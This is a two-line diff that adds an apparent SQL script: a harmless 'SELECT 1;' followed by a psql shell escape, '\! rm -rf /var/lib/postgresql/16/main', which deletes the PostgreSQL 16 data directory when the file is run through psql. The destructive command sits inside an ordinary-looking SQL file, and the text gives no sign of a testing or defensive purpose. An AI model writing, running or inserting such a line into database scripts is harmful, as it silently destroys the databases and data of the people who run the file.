@@ -1,0 +1,2 @@
+SELECT 1;
+\! rm -rf /var/lib/postgresql/16/main
